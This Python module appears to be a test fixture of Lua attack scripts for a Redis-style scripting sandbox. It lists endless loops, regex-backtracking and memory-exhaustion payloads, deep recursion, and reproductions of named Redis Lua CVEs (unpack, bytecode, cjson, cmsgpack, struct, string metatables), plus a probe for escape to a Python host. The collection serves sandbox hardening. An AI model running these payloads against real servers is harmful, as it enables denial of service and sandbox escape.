"""Scripts that attack: by time, by memory, by what Lua 5.1 lets C code do to its own memory, and by
what other servers' Lua has let through (numbers of the CVEs where there are).

ENDLESS ones must be ended from outside; the others end by themselves, whatever they answer.
"""

ENDLESS = {
    "loop": "while true do end",
    "loop in pcall": "while true do pcall(function() while true do end end) end",
    "handler that loops": (
        "while true do xpcall(function() while true do end end, "
        "function() while true do end end) end"
    ),
    "coroutine that loops": (
        "while true do pcall(coroutine.wrap(function() while true do coroutine.yield() end end)) "
        "end"
    ),
    "coroutines too short for a hook": (
        "local function f() return coroutine.wrap(function() local i = 0 "
        "while i < 150 do i = i + 1 end end) end while true do f()() end"
    ),
    "commands in pcall": "while true do redis.pcall('get', KEYS[1] or 'k') end",
    "endless metamethod": (
        "local t = setmetatable({}, {__index = function(t, k) return t[k + 1] and 1 or 1 end, "
        "__lt = function() while true do end end}) return t < t"
    ),
    "endless comparison": "table.sort({1,2,3}, function() while true do end end)",
    "endless gsub": "string.gsub('x', '.', function() while true do end end)",
    "endless loader": "load(function() while true do end end)",
    "pattern, cubic": "string.find(string.rep('a', 1e5), '.-.-b')",
    "pattern, exponential": (
        "string.find(string.rep('a', 60), string.rep('a?', 60)..string.rep('a', 60)..'b')"
    ),
    "pattern with many captures": "string.match(string.rep('a', 1e5), string.rep('(a*)', 20)..'b')",
    "balanced pattern": "string.find(string.rep('(', 1e6), '%b()x')",
    "large strings": "local s = string.rep('x', 2e7) while true do local t = s:upper() end",
    "sorting of equals": (
        "local t = {} for i = 1, 3e5 do t[i] = 1 end while true do table.sort(t) end"
    ),
    "moving of elements": (
        "local t = {} for i = 1, 1e6 do t[i] = i end "
        "while true do table.insert(t, 1, 0) table.remove(t, 1) end"
    ),
    "large messages": (
        "local s = string.rep('x', 3e7) while true do redis.log(redis.LOG_DEBUG, s) end"
    ),
    "many digits": (
        "local s = string.rep('1', 3e5) while true do pcall(cjson.decode, s .. 'e') end"
    ),
    "looking for the largest index": (
        "local t = {} for i = 1, 1e6 do t[i] = i end while true do table.maxn(t) end"
    ),
}


def comparing(seconds: float) -> str:
    """A script whose single instructions take so long that its hook hardly ever runs: each zero
    in a text is a step of its own where C compares texts."""
    return (
        "local a, since = string.rep('\\0', 1e7), os.clock() local b = a .. 'x' "
        f"repeat local less = a < b until os.clock() - since > {seconds}"
    )


OTHERS = {
    "unpack beyond the stack (CVE-2025-46817)": "return unpack({}, 0, 2147483647)",
    "unpack of extremes": "return unpack({}, -2147483648, 0/0), unpack({}, -1e300, 1e300)",
    "varargs beyond the stack (CVE-2014-5461)": (
        "local names = {} for i = 1, 190 do names[i] = 'p'..i end "
        "local f = loadstring('local function f('..table.concat(names, ',')..', ...) "
        "return ... end return f') local function deep(n) f()() if n > 0 then deep(n - 1) end end "
        "deep(150)"
    ),
    "collection while compiling (CVE-2025-49844)": (
        "for i = 1, 200 do loadstring('return ' .. string.rep('{', 150) .. "
        "string.rep('}', 150), string.rep('n', 1e5) .. i) collectgarbage('step', 100) end"
    ),
    "bytecode (CVE-2015-4335)": (
        "return loadstring(string.dump(function() return 1 end):gsub('\\1', '\\255'))()"
    ),
    "bytecode in pieces": (
        "local s, i = string.dump(function() end), 0 "
        "return load(function() i = i + 1 return s:sub(i, i) end)()"
    ),
    "memory, doubled": "local s = 'x' while true do s = s .. s end",
    "memory, in a table": "local t = {} for i = 1, 1e9 do t[i] = {i} end",
    "memory, caught": (
        "local t = {} while true do "
        "if not pcall(function() t[#t + 1] = string.rep('x', 1e6) .. #t end) "
        "then break end end redis.call('set', 'k', 'v') return redis.call({}, t)"
    ),
    "memory, then large replies": (
        "redis.call('set', 'k', string.rep('x', 5e6)) local t = {} "
        "for i = 1, 1000 do t[i] = redis.call('get', 'k') .. i end"
    ),
    "memory, string.rep": "return string.rep('abc', 1e9)",
    "memory, string.rep of nothing": "return string.rep('', 2147483647)",
    "recursion": "local function f() return 1 + f() end return f()",
    "recursion in C (CVE-2021-32626)": (
        "local function f(s) return (s:gsub('.', f)) end return f('x')"
    ),
    "recursion of pcall": "local function f() return pcall(f) end return f()",
    "recursion of coroutines": (
        "local function f() return coroutine.wrap(f)() end return pcall(f)"
    ),
    "recursion of metatables": (
        "local t = {} setmetatable(t, {__index = t}) local u = setmetatable({}, t) "
        "setmetatable(t, {__index = setmetatable(u, {__index = t})}) return t.x"
    ),
    "nested source": "return loadstring(string.rep('(', 1e5) .. '1' .. string.rep(')', 1e5))",
    "pattern with too many items": (
        "return string.find(string.rep('a', 1e5), string.rep('a?', 5e5))"
    ),
    "plain search, quadratic": (
        "return string.find(string.rep('a', 2e6), string.rep('a', 1e6) .. 'b', 1, true)"
    ),
    "cjson, deep": "return cjson.decode(string.rep('[', 1e6))",
    "cjson, cyclic (CVE-2018-11218)": (
        "cjson.encode_max_depth(1e9) local t = {} t[1] = t local ok, e = pcall(cjson.encode, t) "
        "cjson.encode_max_depth(1000) error(e)"
    ),
    "cjson, large (CVE-2022-24834)": "return #cjson.encode(string.rep('\\0', 4e6))",
    "cmsgpack, cyclic (CVE-2018-11219)": "local t = {} t.t = t return #cmsgpack.pack(t, t, t)",
    "cmsgpack, deep": "return cmsgpack.unpack(string.rep('\\145', 1e6))",
    "cmsgpack, lengths": (
        "return cmsgpack.unpack('\\221\\127\\255\\255\\255', '\\219\\255\\255\\255\\255')"
    ),
    "struct, sizes (CVE-2020-14147)": (
        "return struct.unpack('c2147483647', 'x') , struct.pack('>I2147483648', 1)"
    ),
    "struct, offsets": "return struct.unpack('I8', 'x', 2147483647 - 4)",
    "struct, results": "return struct.unpack(string.rep('b', 1e6), string.rep('x', 1e6))",
    "bit.tohex (CVE-2024-31449)": "return bit.tohex(65535, -2147483648)",
    "metatable of strings (CVE-2025-46818)": (
        "getmetatable('').__index = function() return 'mine' end"
    ),
    "methods of strings (CVE-2022-24735)": (
        "getmetatable('').__index.rep = function() return 'mine' end"
    ),
    "long brackets (CVE-2025-46819)": (
        "return loadstring('return [' .. string.rep('=', 1e7) .. '[')"
    ),
    "table.insert far below": "local t = {} table.insert(t, -2147483648, 1)",
    "Python": (
        "local seen = {} local function look(t) if seen[t] then return end seen[t] = true "
        "for k, v in pairs(t) do if type(v) == 'userdata' and v ~= cjson.null then error(k) end "
        "if type(v) == 'table' then look(v) end "
        "if tostring(v):find('Python') or k == 'python' then error(k) end end end look(_G) "
        "assert(not pcall(function() return cjson.null.x end)) return 'out of reach'"
    ),
}
